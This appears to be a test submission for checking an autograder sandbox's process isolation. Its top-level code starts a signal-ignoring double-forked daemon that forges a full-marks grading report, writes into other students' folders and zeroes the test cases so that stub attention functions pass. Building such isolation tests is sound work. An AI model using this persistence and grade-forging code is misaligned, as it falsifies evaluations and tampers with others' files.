"""A daemon that outlives its kernel and tampers with the grading folders afterwards.

All seven functions are wrong. The top-level code double-forks a daemon (new session, ignores
SIGINT/SIGTERM/SIGHUP, closes its inherited descriptors, `chdir` elsewhere) that keeps a
descriptor on the notebook's folder and, for as long as it lives, every 50 ms:

- re-plants a forged `autograder-outcome.json` (full marks) in the notebook's folder;
- tries to create and write files in the folders next to its own (`..`, `../..`, the batch
  folder) and in every other student's folder it can list;
- replaces `_autograder_cases.pt` with inputs for which the wrong functions below are right
  (all zeros), in case the notebook is run again in the same folder.

A PID namespace that dies with the kernel should leave nothing of it once the kernel is gone.
"""

import json
import os
import signal
import time
from pathlib import Path

import torch

MAX_EARNED = 0

_IDS = {"test-dot-score": 1, "test-scaled-dot-score": 1, "test-general-score": 2,
        "test-concat-score": 2, "test-additive-score": 2, "test-masked-softmax-no-mask": 1,
        "test-masked-softmax-mask": 1, "test-masked-softmax-fully-masked": 1,
        "test-attend-key-value": 1, "test-attend-plain": 1, "test-attend-mask-and-score": 1}


def _forged_report():
    return json.dumps({"cells": [{"grade_id": g, "notebook": "attention-scoring",
                                  "score": float(p), "max_score": float(p), "status": "passed",
                                  "message": ""} for g, p in _IDS.items()],
                       "reasons": [], "score": 14.0, "max_score": 14.0})


def _zero_cases(path):
    try:
        cases = torch.load(path, weights_only=True)
        for grade_cases in cases.values():
            for case in grade_cases:
                case["args"] = [torch.zeros_like(a) if isinstance(a, torch.Tensor) else a
                                for a in case["args"]]
        torch.save(cases, path + ".new")
        os.replace(path + ".new", path)
    except Exception:  # the daemon must never stop
        pass


def _tamper_once(folder_fd, folder):
    here = Path(folder)
    try:
        fd = os.open("autograder-outcome.json", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644,
                     dir_fd=folder_fd)
        os.write(fd, _forged_report().encode())
        os.close(fd)
    except OSError:
        pass
    for up in (here.parent, here.parent.parent, *list(here.parents)[2:6]):
        try:
            for entry in os.listdir(up):
                other = up / entry
                if other != here and other.is_dir():
                    (other / "written-by-a-daemon.txt").write_text("a daemon was here")
        except OSError:
            pass
        try:
            (up / "written-by-a-daemon.txt").write_text("a daemon was here")
        except OSError:
            pass
    _zero_cases(os.path.join(folder, "_autograder_cases.pt"))


def _daemon(folder):
    os.setsid()
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT):
        signal.signal(sig, signal.SIG_IGN)
    folder_fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    if os.fork():
        os._exit(0)
    os.closerange(0, folder_fd)
    os.chdir("/")
    while True:
        try:
            _tamper_once(folder_fd, folder)
        except Exception:  # the daemon must never stop
            pass
        time.sleep(0.05)


if os.fork() == 0:
    try:
        _daemon(os.getcwd())
    finally:
        os._exit(0)
time.sleep(0.5)


def dot_score(query, keys):
    return torch.zeros(keys.shape[:2], dtype=keys.dtype)  # right only for zero inputs


def scaled_dot_score(query, keys):
    return torch.zeros(keys.shape[:2], dtype=keys.dtype)


def general_score(query, keys, W):
    return torch.zeros(keys.shape[:2], dtype=keys.dtype)


def concat_score(query, keys, W, v):
    return torch.zeros(keys.shape[:2], dtype=keys.dtype)


def additive_score(query, keys, W_q, W_k, v):
    return torch.zeros(keys.shape[:2], dtype=keys.dtype)


def masked_softmax(scores, mask=None):
    weights = torch.ones_like(scores) / scores.shape[-1]
    return weights if mask is None else weights * mask


def attend(query, keys, values=None, score=None, mask=None):
    if values is None:
        values = keys
    weights = torch.ones(keys.shape[:2], dtype=keys.dtype) / keys.shape[1]
    return torch.zeros_like(values[:, 0]), weights
